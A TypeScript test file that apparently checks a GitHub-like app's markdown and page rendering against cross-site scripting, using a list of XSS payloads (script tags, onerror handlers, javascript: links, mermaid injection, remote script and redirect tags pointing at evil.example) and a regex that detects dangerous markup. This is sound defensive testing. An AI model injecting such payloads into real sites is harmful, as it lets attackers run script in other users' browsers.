import { launch } from "puppeteer-core";
import { afterEach, beforeEach, expect, test } from "vitest";
import { createCheckRun } from "../acts/checks.ts";
import { createComment } from "../acts/comments.ts";
import { writeFile } from "../acts/contents.ts";
import { createIssue } from "../acts/issues.ts";
import { addLabels, createLabel } from "../acts/labels.ts";
import { createPull } from "../acts/pulls.ts";
import { createRef } from "../acts/refs.ts";
import { readRef } from "../git/refs.ts";
import { gitDir } from "../git/run.ts";
import { setStage, usualManifest } from "../stage.ts";
import { findBrowser } from "./camera.ts";
import { markdown } from "./markdown.ts";

type Stage = Awaited<ReturnType<typeof setStage>>;
let stage: Stage;
beforeEach(async () => {
  const permissions = { ...usualManifest.default_permissions, checks: "write" } as const;
  stage = await setStage({
    manifest: { ...usualManifest, default_permissions: permissions },
    isPrivate: false,
  });
});
afterEach(() => stage.close());

const ACT = "document.title='taken'";
const attacks = [
  `<script>${ACT}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<img src=x onerror="${ACT}">`,
  `<svg onload="${ACT}"></svg>`,
  `<details open ontoggle="${ACT}">x</details>`,
  `<a href="javascript:${ACT}">x</a>`,
  `<a href="java&#115;cript&colon;${ACT}">x</a>`,
  `[x](javascript:${ACT})`,
  `[x](<data:text/html,<script>${ACT}</script>>)`,
  `![x](javascript:${ACT})`,
  `<iframe srcdoc="<script>${ACT}</script>"></iframe>`,
  `<math><mtext></table><mglyph><style><img src=x onerror="${ACT}">`,
  `<form action="/x"><input type=text autofocus onfocus="${ACT}"><button>ok</button></form>`,
  `<style>body { display: none }</style>`,
  `<b style="position: fixed" class="state merged" onclick="${ACT}">x</b>`,
  `<meta http-equiv="refresh" content="0; url=//evil.example"><base href="//evil.example"><link rel=stylesheet href=//evil.example>`,
  `<object data="x"></object><embed src="x"><video src=x onerror="${ACT}"></video>`,
  `</div></article></main><script>${ACT}</script>`,
  `\`\`\`mermaid\nflowchart TD\n  a["<img src=x onerror=${ACT}>"] --> b\n  click a href "javascript:${ACT}"\n\`\`\``,
  `\`\`\`mermaid\n</code></pre><script>${ACT}</script>\n\`\`\``,
];
/** A tag that acts, an attribute that acts or dresses up, or an address that acts. */
const DANGEROUS =
  /<\/?(?:script|style|iframe|svg|math|form|button|object|embed|video|meta|base|link|article|main)\b|<[^>]+\s(?:on\w+|style|class="state|srcdoc)\b|(?:href|src)="(?:java|data|vb)/i;

test.each(attacks)("%s is inert", (attack) => {
  const { world, people, repository } = stage;
  const { text } = markdown(
    { world, repository, viewer: people.rita.viewer },
    `Before\n\n${attack}\n\nAfter`,
  );
  expect(text).not.toMatch(DANGEROUS);
  expect(text).toContain("<p>Before</p>");
});

test("the pattern knows what is dangerous", () => {
  const markup = attacks.filter((attack) => attack.startsWith("<"));
  expect(markup.filter((attack) => !DANGEROUS.test(attack))).toEqual([]);
});

test("titles, labels, branches, commits and checks are text, whatever they hold", async () => {
  const { world, people, repository, bot } = stage;
  const tag = `<img src=x onerror="${ACT}">`;
  createLabel(world, people.ada.viewer, repository, {
    name: tag.slice(0, 50),
    color: "5319e7",
    description: "",
  });
  const main = (await readRef(gitDir(world, repository), "refs/heads/main"))!;
  await createRef(world, people.mona.viewer, repository, { ref: "refs/heads/<i>&", sha: main });
  const write = { path: "a.txt", content: Buffer.from("a"), message: tag, branch: "<i>&" };
  await writeFile(world, people.mona.viewer, repository, write);
  const asked = { title: `${tag} \`${tag}\``, body: "", head: "<i>&", base: "main" };
  const pull = await createPull(world, people.mona.viewer, repository, asked);
  const issue = world.state.issues.rows.get(pull.issueId)!;
  addLabels(world, people.mona.viewer, issue, [tag.slice(0, 50)]);
  const output = { title: tag, summary: tag, text: tag };
  await createCheckRun(world, bot, repository, {
    name: tag,
    headSha: pull.headSha,
    conclusion: "failure",
    output,
  });

  for (const path of [`pull/${pull.number}`, "pulls"]) {
    const response = await fetch(`${world.urls.web}/ada/sample/${path}`);
    const page = await response.text();
    expect(page).not.toMatch(/<img|<i>&|onerror="/);
    expect(page).toContain("&#60;img src=x onerror=&#34;");
    expect(response.headers.get("content-security-policy")).toMatch(/default-src 'none'; script-src 'self';/);
  }
});

test("what is nested too deep to be rendered is shown as it is", () => {
  const { world, people, repository } = stage;
  const { text } = markdown({ world, repository, viewer: people.rita.viewer }, "<div>".repeat(10_000));
  expect(text).toMatch(/^<pre>&#60;div&#62;/);
});

test.skipIf(!findBrowser())("in a browser nothing of it acts, and drawings are drawn", async () => {
  const { world, people, repository } = stage;
  const drawings = "```mermaid\nflowchart TD\n  a --> b\n```\n\n```mermaid\nflowchart TD\n  a -->\n```";
  const issue = createIssue(world, people.mona.viewer, repository, { title: "Drawings", body: drawings });
  for (const attack of attacks) createComment(world, people.sam.viewer, issue, attack);

  const browser = await launch({ executablePath: findBrowser()!, args: ["--no-sandbox"] });
  try {
    const page = await browser.newPage();
    const asked: string[] = [];
    page.on("request", (request) => void asked.push(request.url()));
    await page.goto(`${world.urls.web}/ada/sample/issues/1`);
    await page.waitForSelector("html[data-drawn]", { timeout: 30_000 });
    expect(await page.title()).toBe("Drawings · #1 · ada/sample");
    expect(asked.filter((url) => !url.startsWith(`${world.urls.web}/`))).toEqual([]);
    const first = await page.$eval("article .drawing", (drawing) => drawing.textContent);
    expect(first).toMatch(/a\s*b/);
    const failed = await page.$$eval(".failure", (all) => all.map((one) => one.textContent));
    expect(failed[0]).toMatch(/^Unable to render rich display/);
    await page.setJavaScriptEnabled(false);
    await page.reload();
    expect(await page.$eval("pre code.language-mermaid", (code) => code.textContent)).toContain("a --> b");
  } finally {
    await browser.close();
  }
});
